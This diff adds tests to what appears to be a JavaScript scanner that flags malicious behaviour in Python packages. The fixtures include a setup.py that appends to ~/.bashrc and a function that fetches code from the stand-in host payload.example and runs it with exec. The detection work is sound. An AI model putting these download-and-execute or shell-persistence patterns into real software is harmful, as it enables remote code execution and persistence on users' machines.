@@ -176,3 +176,30 @@ test('IPv6 literals outside the Internet ranges (RFC examples, IPv4-compatible f
   const global = 'url = "http://[2001:4860:4860::8888]/x"\nCASES = [url]\n';
   assert.equal(ruleOf(findings(global), 'hardcoded-endpoint')?.destination?.kind, 'ip-literal');
 });
+
+test('setup.py appending to a shell start-up file is high: no package install edits it', () => {
+  const source = 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias x=y")\n';
+  assert.equal(
+    analyzePythonFile('setup.py', new TextEncoder().encode(source))[0].findings.find((f) => f.rule === 'persistence')
+      ?.severity,
+    'high',
+  );
+});
+
+test('exec of code a service generates, at a URL the user configures, is medium when called; from a written host, high', () => {
+  const service = [
+    'import requests',
+    'class Backend:',
+    '    def fetch(self, url):',
+    '        return requests.post(url, json={}).json()["code"]',
+    '    def load(self):',
+    '        code = compile(self.fetch(self.api_url + "/graphql"), "<doc>", "exec")',
+  ].join('\n');
+  assert.equal(ruleOf(findings(service), 'download-execute')?.severity, 'medium');
+  const written =
+    'import requests\ndef update():\n    exec(requests.get("https://payload.example/x.py").text)\n    exec(requests.get("https://payload.example/y.py").json())\n';
+  const severities = findings(written)
+    .filter((f) => f.rule === 'download-execute')
+    .map((f) => f.severity);
+  assert.deepEqual(severities, ['high', 'high'], 'also when the response is read by a call (.json())');
+});
